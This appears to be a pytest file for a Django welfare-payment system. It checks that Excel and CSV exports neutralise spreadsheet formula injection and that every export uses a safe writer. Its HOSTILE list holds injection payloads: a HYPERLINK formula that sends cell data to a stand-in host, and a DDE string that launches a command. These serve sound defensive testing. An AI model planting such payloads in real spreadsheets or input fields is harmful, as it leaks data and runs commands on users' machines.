"""No export writes a formula cell: every xlsx the system produces and every CSV cell treats user-typed
text as text (issue #15 item 1). The source scan keeps new exports on the one safe writer."""
import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import SafeCsvWriter, csv_cell, openpyxl_text
from funds import exports, services
from funds.models import PaymentBatch, PaymentLine
from monitoring import views as monitoring_views
from tests.funds.conftest import MONTH, make_paid

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://x/"&F2,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=2+2", "=1+1"]


def _no_formula(book_bytes_or_path):
    book = load_workbook(book_bytes_or_path)
    seen = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    seen.append(cell.value)
    return seen


def test_payment_file_writes_hostile_names_as_text(users, standards, wuzhi, tmp_path):
    for i in range(len(HOSTILE)):
        make_paid("dibao", "300.00", 1 + i % 3)
    batch = services.batch_draft(actor=users["wuzhi_minzheng"], county=wuzhi, month=MONTH)
    for line, evil in zip(PaymentLine.objects.filter(batch=batch).order_by("line_no"), HOSTILE, strict=True):
        PaymentLine.objects.filter(pk=line.pk).update(head_name=evil, bank_name=evil)
    batch = services.batch_transition(actor=users["wuzhi_minzheng"], batch=batch, to=PaymentBatch.Status.FINALISED)
    path = tmp_path / "bank.xlsx"
    exports.write_payment_file(batch, path)
    seen = _no_formula(path)
    stripped = [v.strip() for v in seen]
    for evil in HOSTILE:
        assert stripped.count(evil.strip()) == 2  # name and bank, the characters as typed (XML eats a lone CR)


def test_population_export_writes_hostile_names_as_text(client, users, monkeypatch):
    month = dt.date(2026, 11, 1)
    data = {"months": [month], "series": {"dibao": {month: 1}}, "persons": {"dibao": {month: 2}}, "latest": month,
            "by_place": [{"code": "410823101", "name": evil, "category": evil, "households": 1, "persons": 2}
                         for evil in HOSTILE]}
    monkeypatch.setattr(monitoring_views.selectors, "population_series", lambda **kw: data)
    client.force_login(users["wuzhi_minzheng"])
    resp = client.get(reverse("monitoring:population") + "?export=xlsx")
    seen = _no_formula(io.BytesIO(resp.content))
    assert all(evil.strip() in [v.strip() for v in seen] for evil in HOSTILE)


def test_csv_cells_are_neutralised():
    buf = io.StringIO()
    SafeCsvWriter(buf).writerows([HOSTILE + ["张三", 12, "1-2"], ["\x01x", "\x7fy", ""]])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert all(cell.startswith("'") for cell in rows[0][: len(HOSTILE)])
    assert rows[0][len(HOSTILE):] == ["张三", "12", "1-2"]
    assert rows[1] == ["'\x01x", "'\x7fy", ""]
    assert csv_cell(-5) == -5  # numbers stay numbers


def test_openpyxl_text_never_a_formula(tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    openpyxl_text(book.active["A1"], HOSTILE[0])
    book.save(tmp_path / "x.xlsx")
    assert _no_formula(tmp_path / "x.xlsx") == [HOSTILE[0]]


def test_every_export_uses_the_safe_writer():
    """Any product module that builds a workbook or a CSV writer goes through core.exports."""
    pattern = re.compile(r"xlsxwriter\.Workbook\(|openpyxl\.Workbook\(|\bWorkbook\(\)|csv\.(writer|DictWriter)\(")
    offenders = []
    for app in ("core", "accounts", "attachments", "cases", "funds", "monitoring", "audit", "ops", "imports",
                "discovery", "notifications", "charity", "reports", "jiuzhu"):
        for path in (ROOT / app).rglob("*.py"):
            if "migrations" in path.parts or path == ROOT / "core" / "exports.py":
                continue
            if pattern.search(path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
